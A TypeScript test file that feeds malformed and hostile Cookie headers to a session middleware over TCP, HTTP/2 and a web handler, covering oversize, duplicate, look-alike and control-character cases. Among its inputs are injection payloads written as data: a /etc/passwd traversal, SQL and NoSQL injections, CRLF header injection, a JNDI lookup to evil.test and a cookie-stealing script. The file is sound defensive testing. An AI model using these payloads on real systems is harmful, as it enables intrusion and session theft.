/**
 * Hostile `Cookie` headers, as raw bytes over TCP, over HTTP/2, and as a
 * `Request` to the web handler. The pass rule is checked for every one of them.
 */
import { NodeHttpServer } from "@effect/platform-node"
import * as HttpApp from "@effect/platform/HttpApp"
import * as HttpRouter from "@effect/platform/HttpRouter"
import * as HttpServer from "@effect/platform/HttpServer"
import { type Session, SessionHttp } from "effect-session"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Exit from "effect/Exit"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import * as Scope from "effect/Scope"
import * as http from "node:http"
import * as http2 from "node:http2"
import * as net from "node:net"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { AppSession, handlers, Probe } from "./app.js"
import { observe } from "./observed.js"

interface Answer {
  readonly status: number
  /** Everything the server sent, head and body. */
  readonly raw: string
  readonly body: string
  /** What the live session reads over the same connection, where there is one. */
  readonly sameConnection?: () => Promise<string>
}

/** Sends `GET /read` under the bytes of a `Cookie` header. Undefined where the client's side refuses to. */
type Transport = (headers: ReadonlyArray<Buffer>) => Promise<Answer | undefined>

const probe = new Probe()
const observed = observe()
const scope = Effect.runSync(Scope.make())
const rejections: Array<unknown> = []
const onRejection = (reason: unknown) => rejections.push(reason)

const latin1 = (text: string) => Buffer.from(text, "latin1")
const utf8 = (text: string) => Buffer.from(text, "utf8")

// ---------------------------------------------------------------------------
// transports
// ---------------------------------------------------------------------------

const getRead = (headers: ReadonlyArray<Buffer>) =>
  Buffer.concat([
    latin1("GET /read HTTP/1.1\r\nHost: x\r\n"),
    ...headers.flatMap((header) => [latin1("Cookie: "), header, latin1("\r\n")]),
    latin1("\r\n")
  ])

/** A response that has come whole, as the platform writes them: with its length. */
const wholeAnswer = (raw: string): Answer | undefined => {
  const end = raw.indexOf("\r\n\r\n")
  const length = /^content-length: (\d+)/im.exec(raw.slice(0, end))?.[1]
  const body = raw.slice(end + 4)
  return end === -1 || length === undefined || body.length < Number(length)
    ? undefined
    : { status: Number(raw.slice(9, 12)), raw, body }
}

const overTcp = (port: number): Transport => (headers) =>
  new Promise((resolve, reject) => {
    const socket = net.connect(port, "127.0.0.1", () => socket.write(getRead(headers)))
    let raw = ""
    let answered = (answer: Answer) => {
      const canary = new Promise<string>((resolve) => {
        answered = ({ body }) => resolve(body)
      })
      const sameConnection = () => {
        socket.write(getRead([id(live)]))
        return canary.finally(() => socket.destroy())
      }
      resolve({ ...answer, sameConnection })
    }
    socket.on("data", (chunk) => {
      raw += chunk.toString("latin1")
      const answer = wholeAnswer(raw)
      if (answer !== undefined) {
        raw = ""
        answered(answer)
      }
    })
    socket.on("error", (error) => raw !== "" ? undefined : reject(error))
    // the server's own refusals have no length, and end the connection
    socket.on("close", () => answered({ status: Number(raw.slice(9, 12)), raw, body: "" }))
  })

const overHttp2 = (connect: () => http2.ClientHttp2Session): Transport => (headers) =>
  new Promise((resolve) => {
    const client = connect()
    let stream: http2.ClientHttp2Stream
    try {
      stream = client.request({ ":path": "/read", "cookie": headers.map((header) => header.toString("latin1")) })
    } catch {
      return resolve(undefined)
    }
    let head = ""
    let status = 0
    let body = ""
    stream.on("response", (headers) => {
      status = Number(headers[":status"])
      head = JSON.stringify(headers)
    })
    stream.on("data", (chunk: Buffer) => {
      body += chunk.toString("latin1")
    })
    stream.on("error", () => resolve(undefined))
    stream.on("close", () => resolve(status === 0 ? undefined : { status, raw: head + body, body }))
  })

const overWeb = (handler: (request: Request) => Promise<Response>): Transport => async (headers) => {
  let request: Request
  try {
    request = new Request("http://localhost/read", {
      headers: headers.map((header): [string, string] => ["cookie", header.toString("latin1")])
    })
  } catch {
    return undefined
  }
  const response = await handler(request)
  const body = await response.text()
  return { status: response.status, raw: JSON.stringify([...response.headers]) + body, body }
}

const transports: Record<string, Transport> = {}
let live = ""
let other = ""

beforeAll(async () => {
  process.on("unhandledRejection", onRejection)
  const manager = AppSession.layer().pipe(Layer.provide(probe.layer), Layer.orDie, Layer.provideMerge(observed.layer))
  const app = HttpRouter.empty.pipe(
    HttpRouter.get("/read", handlers.read),
    HttpRouter.use(SessionHttp.middleware(AppSession))
  )

  await Effect.gen(function*() {
    // one manager for all transports
    const context = yield* Layer.build(manager)
    const sessions: Layer.Layer<Session.Manager<AppSession>> = Layer.succeedContext(context)
    const issue = Context.get(context, AppSession.Manager).issue
    live = Redacted.value(yield* issue({ n: 1, user: "canary" }))
    other = Redacted.value(yield* issue({ n: 2, user: "other" }))

    const serve = (make: () => http.Server) =>
      Effect.map(
        Layer.build(
          HttpServer.serve(app).pipe(
            Layer.provideMerge(NodeHttpServer.layer(make, { port: 0, host: "127.0.0.1" })),
            Layer.provide(sessions),
            Layer.provide(observed.layer)
          )
        ),
        (context) => {
          const { address } = Context.get(context, HttpServer.HttpServer)
          return address._tag === "TcpAddress" ? address.port : 0
        }
      )
    const roomy = 4 * 1024 * 1024
    transports["TCP"] = overTcp(yield* serve(() => http.createServer({ maxHeaderSize: roomy })))

    // the platform takes an HTTP/2 server for an HTTP/1 one: Node's compatibility layer answers alike
    const port = yield* serve(() =>
      http2.createServer({ settings: { maxHeaderListSize: roomy } }) as unknown as http.Server
    )
    let client: http2.ClientHttp2Session | undefined
    const connect = () => {
      if (client === undefined || client.closed || client.destroyed) { // Node gives up a connection for some inputs
        client = http2.connect(`http://127.0.0.1:${port}`).on("error", () => {})
      }
      return client
    }
    yield* Effect.addFinalizer(() => Effect.sync(() => client?.destroy()))
    transports["HTTP/2"] = overHttp2(connect)

    transports["web"] = overWeb(HttpApp.toWebHandlerLayer(app, Layer.merge(sessions, observed.layer)).handler)
  }).pipe(Effect.orDie, Scope.extend(scope), Effect.runPromise)
})

afterAll(async () => {
  await Effect.runPromise(Scope.close(scope, Exit.void))
  process.off("unhandledRejection", onRejection)
})

// ---------------------------------------------------------------------------
// the pass rule
// ---------------------------------------------------------------------------

interface Expected {
  /** What the handler says: the live session's 1, or an anonymous 0. */
  readonly body: "0" | "1"
  readonly loads: number
}

const anonymous: Expected = { body: "0", loads: 0 }
const unknown: Expected = { body: "0", loads: 1 }
const signedIn: Expected = { body: "1", loads: 1 }

const isControl = (byte: number) => (byte < 0x20 && byte !== 0x09) || byte === 0x7f

const check = async (name: string, headers: ReadonlyArray<Buffer>, expected: Expected) => {
  let delivered = 0
  for (const [transport, send] of Object.entries(transports)) {
    const where = `${transport}: ${name}`
    const [logs, spans] = [observed.logs.length, observed.spans.length]
    const [answer, operations] = await probe.during(() => send(headers))
    if (answer === undefined) {
      expect([where, operations]).toEqual([where, []])
      continue
    }
    if (answer.status === 400 || answer.status === 431) { // the server's own, before any of us
      expect([where, operations]).toEqual([where, []])
      continue
    }
    if (transport === "HTTP/2" && headers.some((header) => header.some(isControl))) { // such a field never arrives
      expect([where, operations, answer.body]).toEqual([where, [], "0"])
      continue
    }
    delivered++
    expect([where, answer.status, answer.body]).toEqual([where, 200, expected.body])
    expect([where, operations]).toEqual([where, Array(expected.loads).fill("load")])
    expect(answer.raw.toLowerCase()).not.toContain("set-cookie")
    if (answer.sameConnection !== undefined) {
      expect([where, await answer.sameConnection()]).toEqual([where, "1"])
    }
    const told = [...observed.logs.slice(logs), ...observed.spans.slice(spans), answer.raw].join("\n")
    for (const header of headers) {
      for (const text of [header.toString("latin1"), header.toString("utf8")]) {
        const value = text.slice(text.indexOf("=") + 1).trim()
        if (value.length >= 12 && value !== "[object Object]") { // which this test's own printing says
          expect([where, told.includes(value.slice(0, 4096))]).toEqual([where, false])
        }
      }
    }
  }
  expect(rejections).toEqual([])
  return delivered
}

const id = (value: string) => latin1(`__Host-id=${value}`)
const cookie = (text: string) => latin1(text)

/** One test for a group of inputs: the name of the failing one is in the assertion. */
const group = (
  title: string,
  cases: () => Iterable<readonly [name: string, header: Buffer | ReadonlyArray<Buffer>, Expected]>
) =>
  it(title, async () => {
    const before = await Effect.runPromise(probe.records)
    let sent = 0
    let delivered = 0
    for (const [name, header, expected] of cases()) {
      delivered += await check(name, Array.isArray(header) ? header : [header as Buffer], expected)
      sent++
    }
    expect(sent).toBeGreaterThan(0)
    expect(delivered).toBeGreaterThan(0)
    // every record is as it was, there are no new ones, and every server still answers
    expect(await Effect.runPromise(probe.records)).toEqual(before)
    expect(Object.keys(before)).toHaveLength(2)
    expect(await check("canary", [id(live)], signedIn)).toBe(3)
  }, 60_000)

describe("Cookie headers", () => {
  group("the harness itself: a live and an unknown id", () => [
    ["live", id(live), signedIn],
    ["unknown", id("A".repeat(54)), unknown],
    ["live selector, wrong verifier", id(live.slice(0, 22) + "A".repeat(32)), unknown],
    ["no cookie", cookie("a=b"), anonymous]
  ])

  group("H-01 OW-12: oversize", () => [
    ...[0, 1, 53, 55, 4096, 4097, 8192, 15 * 1024, 16 * 1024 - 1, 16 * 1024 + 1, 64 * 1024, 1024 * 1024].map((size) =>
      [`a value of ${size}`, id("A".repeat(size)), anonymous] as const
    ),
    ["a name of 4096", cookie(`${"n".repeat(4096)}=${live}`), anonymous],
    ["behind a megabyte", cookie(`a=${"b".repeat(1024 * 1024)}; __Host-id=${live}`), signedIn]
  ])

  group("H-02 REG-C8: many", () => [
    ...[50, 180, 5000, 100_000].map((count) => [`${count} pairs`, cookie("a=b; ".repeat(count)), anonymous] as const),
    ["5,000 pairs before ours", cookie(`${"a=b; ".repeat(5000)}__Host-id=${live}`), signedIn],
    ["10,000 times our name", cookie(`__Host-id=${live}; `.repeat(10_000)), anonymous],
    ["10,000 times our name without a value", cookie("__Host-id;".repeat(10_000)), anonymous],
    ["only semicolons", cookie(";".repeat(100_000)), anonymous],
    ["only equals signs", cookie("=".repeat(100_000)), anonymous],
    ["only spaces and our name", cookie(`;${" ".repeat(100_000)}__Host-id`), anonymous],
    ["quotes", cookie("\"\\\"".repeat(30_000)), anonymous],
    ["a;a;a", cookie("a;a;a"), anonymous],
    ["trailing semicolons", cookie(`__Host-id=${live};;;`), signedIn],
    ["our name without an equals sign", cookie("__Host-id"), anonymous],
    ["our name within names", cookie("x__Host-id=a; ".repeat(20_000)), anonymous]
  ])

  group(
    "H-03: invalid UTF-8 and 8-bit bytes",
    () =>
      ["fffe", "80", "c0af", "eda080", "f5808080", "e4f6fc", "ff"].flatMap((hex) => {
        const bytes = Buffer.from(hex, "hex")
        return [
          [`${hex} alone`, Buffer.concat([cookie("__Host-id="), bytes]), anonymous],
          [`${hex} before the value`, Buffer.concat([cookie("__Host-id="), bytes, cookie(live)]), anonymous],
          [`${hex} after the value`, Buffer.concat([id(live), bytes]), anonymous],
          [`${hex} in the value`, Buffer.concat([id(live.slice(0, 53)), bytes]), anonymous],
          [`${hex} before the name`, Buffer.concat([bytes, id(live)]), anonymous],
          [`${hex} after the name`, Buffer.concat([cookie("__Host-id"), bytes, cookie(`=${live}`)]), anonymous],
          [`${hex} in another cookie`, Buffer.concat([cookie("a="), bytes, cookie("; "), id(live)]), signedIn]
        ] as const
      })
  )

  group("H-04 REG-C10: control characters, raw and percent-encoded", () => [
    ...[...Array(0x20).keys(), 0x7f].flatMap((code) => {
      const raw = Buffer.from([code])
      const percent = `%${code.toString(16).padStart(2, "0")}`
      return [
        [`${percent} raw`, Buffer.concat([id(live.slice(0, 53)), raw]), anonymous],
        [
          `${percent} raw, in the middle`,
          Buffer.concat([id(live.slice(0, 30)), raw, cookie(live.slice(31))]),
          anonymous
        ],
        [`${percent} encoded`, id(live + percent), anonymous],
        [`${percent} encoded, upper case`, id(percent.toUpperCase() + live), anonymous]
      ] as const
    }),
    ...["%", "%E0%A4%A", "%zz", "%C0%80", "%c2%85", "%e2%80%a8", "%0d%0a", "%0D%0aSet-Cookie: a=b", "%250d%250a"].map(
      (text) => [text, id(text), anonymous] as const
    ),
    ["the live id with one letter encoded", id(`%${live.charCodeAt(0).toString(16)}${live.slice(1)}`), anonymous]
  ])

  const spaces: Record<string, Buffer> = {
    "TAB": cookie("\t"),
    "VT": cookie("\v"),
    "FF": cookie("\f"),
    "A0": Buffer.from("a0", "hex"),
    "NEL": Buffer.from("85", "hex"),
    ...Object.fromEntries(
      [0xa0, 0x1680, 0x2000, 0x200a, 0x200b, 0x202f, 0x3000, 0xfeff].map((
        code
      ) => [`U+${code.toString(16)}`, utf8(String.fromCodePoint(code))])
    )
  }

  group("H-05 REG-C2: odd whitespace", () =>
    Object.entries(spaces).flatMap(([name, space]) =>
      [
        [`${name} before the name`, Buffer.concat([cookie("a=b; "), space, id(live)]), anonymous],
        [`${name} after the semicolon`, Buffer.concat([cookie("a=b;"), space, id(live)]), anonymous],
        [`${name} after the name`, Buffer.concat([cookie("__Host-id"), space, cookie(`=${live}`)]), anonymous],
        [`${name} before the value`, Buffer.concat([cookie("__Host-id="), space, cookie(live)]), anonymous],
        [`${name} after the value`, Buffer.concat([id(live), space, cookie("; a=b")]), anonymous],
        // shadowing: another's cookie that a trimming parser would take for ours, before ours
        [`${name} shadows`, Buffer.concat([cookie("a=b; "), space, id(other), cookie("; "), id(live)]), signedIn]
      ] as const
    ))

  const tossed = (): ReadonlyArray<readonly [string, ReadonlyArray<string>, Expected]> => [
    ["live and live", [`__Host-id=${live}`, `__Host-id=${live}`], signedIn],
    ["two lives", [`__Host-id=${live}`, `__Host-id=${other}`], { body: "0", loads: 2 }],
    ["live and dead", [`__Host-id=${live}`, `__Host-id=${"A".repeat(54)}`], { body: "1", loads: 2 }],
    ["live and malformed", [`__Host-id=${live}`, "__Host-id=x"], signedIn],
    ["live and empty", [`__Host-id=${live}`, "__Host-id="], signedIn],
    ["three", [`__Host-id=${live}`, "a=b", `__Host-id=${other}`, `__Host-id=${live}`], { body: "0", loads: 2 }],
    ["REG-C7 an unprefixed twin", [`__Host-id=${live}`, `id=${other}`], signedIn],
    ["REG-C7 a __Secure- twin", [`__Secure-id=${other}`, `__Host-id=${live}`], signedIn],
    ["other case", [`__host-id=${other}`, `__Host-id=${live}`, `__HOST-ID=${other}`], signedIn],
    ["REG-C7 only unprefixed", [`id=${live}`, `__Secure-id=${live}`], anonymous]
  ]

  group("H-06 RFC-13 REG-C7: duplicates, in either order", () =>
    tossed().flatMap(([name, cookies, expected]) => [
      [name, cookie(cookies.join("; ")), expected] as const,
      [`${name}, reversed`, cookie([...cookies].reverse().join("; ")), expected] as const
    ]))

  group(
    "H-06 RFC-05: duplicates over several headers and crumbs",
    () => tossed().map(([name, cookies, expected]) => [name, cookies.map(cookie), expected] as const)
  )

  group("H-07 RFC-08 RFC-11 RFC-12 REG-C3 REG-C4 REG-C5: prefixes that only look alike", () =>
    [
      "__HOST-id",
      "__host-id",
      "__Host-ID",
      "%5F%5FHost-id",
      "%5f_Host-id",
      "__Host%2Did",
      "__Host%2did",
      "=__Host-id",
      "..Host-id",
      "_ Host-id",
      "__Host[id",
      "__Host-id ",
      "__Host.id",
      "__Secure-id",
      "Host__id",
      "\"__Host-id\"",
      "$__Host-id",
      "__Host-id[]",
      "__Host-id.",
      "x=__Host-id",
      "x,__Host-id",
      "id"
    ].flatMap((name) => [
      [name, cookie(`${name}=${live}`), anonymous] as const,
      [`${name}, before ours`, cookie(`${name}=${other}; __Host-id=${live}`), signedIn] as const
    ]))

  group("H-10: Unicode look-alikes of the name and of an id", () => {
    const fullWidth = (text: string) =>
      [...text].map((letter) => String.fromCodePoint(letter.codePointAt(0)! + 0xfee0)).join("")
    return [
      ["full-width name", utf8(`${fullWidth("__Host-id")}=${live}`), anonymous],
      ["full-width value", utf8(`__Host-id=${fullWidth(live)}`), anonymous],
      ["dotless i", utf8(`__Host-\u0131d=${live}`), anonymous],
      ["dotted capital I", utf8(`__Host-\u0130d=${live}`), anonymous],
      ["Kelvin sign", utf8(`__Host-id=${"\u212a".repeat(54)}`), anonymous],
      ["combining mark after the name", utf8(`__Host-id\u0301=${live}`), anonymous],
      ["zero-width joiner in the name", utf8(`__Host\u200d-id=${live}`), anonymous],
      ["zero-width joiner after the value", utf8(`__Host-id=${live}\u200d`), anonymous],
      ["right-to-left override", utf8(`\u202e__Host-id=${live}`), anonymous],
      ["homoglyph digits", utf8(`__Host-id=${"\u0661".repeat(54)}`), anonymous],
      ["emoji", utf8(`__Host-id=${"\u{1F36A}".repeat(13)}`), anonymous],
      ["non-breaking hyphen", utf8(`__Host\u2011id=${live}`), anonymous]
    ]
  })

  group("H-11: NUL tricks", () => [
    ["raw", Buffer.concat([id(live), Buffer.from([0])]), anonymous],
    ["raw, and more", Buffer.concat([id(live), Buffer.from([0]), cookie(".txt")]), anonymous],
    ["encoded before", id(`%00${live}`), anonymous],
    ["encoded after", id(`${live}%00%00`), anonymous]
  ])

  group("H-12 REG-A10 OW-12: special values", () =>
    [
      "",
      "undefined",
      "null",
      "true",
      "0",
      "NaN",
      "[]",
      "{}",
      "[object Object]",
      "__proto__",
      "constructor",
      "toString",
      "hasOwnProperty",
      ".",
      "..",
      "*",
      "-1",
      "9".repeat(10_000),
      "../../../etc/passwd",
      "' OR '1'='1",
      "j:{\"$ne\":null}",
      "s:abc.def"
    ].flatMap((value) => [
      [value, id(value), anonymous] as const,
      [`a cookie named ${value}`, cookie(`${value}=${value}; __Host-id=${live}`), signedIn] as const
    ]))

  group("H-37: what would break into a log", () =>
    [
      "\\u001b[31mred",
      "%1b%5b31m-ANSI-ESCAPES",
      "%0a{\"level\":\"FATAL\",\"forged\":true}",
      "\"},{\"level\":\"FATAL\"},{\"",
      "%s%n%x%d%p-format-string",
      "${jndi:ldap://evil.test/a}",
      "<script>alert(document.cookie)</script>",
      `long-${"A".repeat(1_000_000)}`
    ].flatMap((value) => [
      [value.slice(0, 30), id(value), anonymous] as const,
      [`a cookie named ${value.slice(0, 30)}`, cookie(`${value}=v; __Host-id=${live}`), signedIn] as const
    ]))

  group("OW-12: one spelling of an id", () => {
    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    const last = alphabet.indexOf(live.at(-1)!)
    // 40 bytes leave four bits of the last letter unread: 15 more spellings of the same bytes
    const twins = [...alphabet].filter((_, index) => index !== last && index >> 4 === last >> 4)
    expect(twins).toHaveLength(15)
    return [
      ...twins.map((letter) => [`ending in ${letter}`, id(live.slice(0, 53) + letter), anonymous] as const),
      ["quoted", id(`"${live}"`), anonymous],
      ["padded", id(`${live}==`), anonymous],
      ["standard base64", id(`${live.slice(0, 52)}+/`), anonymous],
      ["a space after", id(`${live} ; a=b`), anonymous],
      ["a tab within", id(`${live.slice(0, 27)}\t${live.slice(28)}`), anonymous]
    ]
  })
})
